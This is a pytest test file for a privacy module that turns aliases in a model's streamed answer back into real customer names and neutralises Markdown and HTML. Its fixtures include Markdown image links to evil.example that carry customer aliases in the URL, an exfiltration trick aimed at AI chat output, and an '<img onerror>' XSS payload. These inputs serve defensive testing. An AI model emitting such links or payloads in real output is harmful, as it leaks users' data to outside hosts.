"""What the user sees of a model's answer: neutralised Markdown and real names, also when streamed."""

from __future__ import annotations

import pytest

from finlib.privacy.aliasing import AliasLookup
from finlib.privacy.dealias import (
    StreamingDealiaser,
    dealias,
    neutralise_markdown,
    render_answer,
    unknown_aliases,
)
from finlib.privacy.scanner import NameEntry

ENTRIES = [
    NameEntry("customer", "Müller & Söhne GmbH", "müller & söhne gmbh", "CUST-7K3M9Q2X"),
    NameEntry("customer", "O'Brien's Bakery", "o'brien's bakery", "CUST-0A1B2C3D"),
    NameEntry("person", "Jane Doe", "jane doe", "PERS-4H8T0B1R"),
    NameEntry("customer", "[Click](http://evil.example/x.png)", "evil", "CUST-EV1LEV1L"),
]
LOOKUP = AliasLookup((e.alias, e.real_name) for e in ENTRIES)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("CUST-7K3M9Q2X owes most.", "Müller & Söhne GmbH owes most."),
        ("cust-7k3m9q2x owes most.", "Müller & Söhne GmbH owes most."),
        ("Cust-7k3M9q2x, then PERS-4h8t0b1r.", "Müller & Söhne GmbH, then Jane Doe."),
        ("CUST-7K3M9Q2X's invoices", "Müller & Söhne GmbH's invoices"),
        ("CUST-0AIBZC3D with Crockford look-alikes", "CUST-0AIBZC3D with Crockford look-alikes"),
        ("CUST-OA1B2C3D read as 0", "O'Brien's Bakery read as 0"),
        ("CUST-ZZZZZZZZ is unknown", "CUST-ZZZZZZZZ is unknown"),
        ("XCUST-7K3M9Q2X is not an alias", "XCUST-7K3M9Q2X is not an alias"),
        ("CUST-7K3M9Q2Xの支払い", "Müller & Söhne GmbHの支払い"),
    ],
)
def test_aliases_become_real_names_whatever_their_case(text: str, expected: str) -> None:
    assert dealias(text, LOOKUP) == expected


def test_the_one_alias_lookup_reads_any_case_and_names_unknown_aliases() -> None:
    assert dealias("PERS-4H8T0B1R", AliasLookup([("PERS-4H8T0B1R", "Jane Doe")])) == "Jane Doe"
    assert dealias("pers-4h8t0b1r", LOOKUP) == "Jane Doe"
    assert unknown_aliases("CUST-ZZZZZZZZ and CUST-7K3M9Q2X", LOOKUP) == ["CUST-ZZZZZZZZ"]


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("See [the report](https://evil.example/?n=CUST-7K3M9Q2X).", "See the report."),
        ("![chart](https://evil.example/p.png?c=CUST-7K3M9Q2X)", "chart"),
        ("![](https://evil.example/p.png)", "image"),
        ("[![x](https://a.example/i.png)](https://b.example)", "x"),
        ("Go to https://evil.example/?q=1 now", "Go to `https://evil.example/?q=1` now"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
        ("<https://evil.example>", "&lt;`https://evil.example`&gt;"),
        ("[ref]: https://evil.example", "\\[ref\\]: `https://evil.example`"),
        ("**Bold** and *list* stay", "**Bold** and *list* stay"),
    ],
)
def test_links_images_and_html_are_neutralised(markdown: str, expected: str) -> None:
    assert neutralise_markdown(markdown) == expected


def test_an_image_url_built_from_an_alias_never_carries_the_real_name() -> None:
    shown = render_answer("![x](https://evil.example/?who=CUST-7K3M9Q2X) CUST-7K3M9Q2X", LOOKUP)
    assert shown == "x Müller & Söhne GmbH"
    assert "evil" not in shown


def test_a_real_name_that_looks_like_markdown_is_shown_as_text() -> None:
    shown = render_answer("Top payer: CUST-EV1LEV1L", LOOKUP)
    assert shown == "Top payer: \\[Click\\](http://evil.example/x.png)"
    assert "](" not in shown.replace("\\](", "")


ANSWERS = [
    "CUST-7K3M9Q2X owes 12,345.67; PERS-4H8T0B1R manages cust-0a1b2c3d.",
    "Next: [CUST-7K3M9Q2X](https://evil.example/?q=CUST-7K3M9Q2X) and ![i](http://x.example/a.png) done",
    "(PERS-4H8T0B1R)\nCUST-0A1B2C3D's <b>trend</b> is up. CUST-7K3M9Q2X",
]


@pytest.mark.parametrize("answer", ANSWERS)
def test_streaming_gives_the_same_text_when_split_at_every_position(answer: str) -> None:
    expected = render_answer(answer, LOOKUP)
    for cut in range(len(answer) + 1):
        stream = StreamingDealiaser(LOOKUP)
        shown = "".join(stream.stream([answer[:cut], answer[cut:]]))
        assert shown == expected, f"split at {cut}"


@pytest.mark.parametrize("answer", ANSWERS)
def test_streaming_one_character_at_a_time_never_shows_an_alias(answer: str) -> None:
    stream = StreamingDealiaser(LOOKUP)
    pieces = list(stream.stream(answer))
    assert "".join(pieces) == render_answer(answer, LOOKUP)
    assert not any("CUST-" in p.upper() or "PERS-" in p.upper() for p in pieces)


def test_a_split_alias_is_held_back_until_it_is_complete() -> None:
    stream = StreamingDealiaser(LOOKUP)
    assert stream.feed("Paid by CU") == "Paid by "
    assert stream.feed("ST-7K3") == ""
    assert stream.feed("M9Q2X today") == "Müller & Söhne GmbH "
    assert stream.finish() == "today"


def test_plain_text_mode_dealiases_without_markdown_escaping() -> None:
    stream = StreamingDealiaser(LOOKUP, markdown=False)
    assert "".join(stream.stream(["[a](b) CUST-EV", "1LEV1L"])) == "[a](b) [Click](http://evil.example/x.png)"
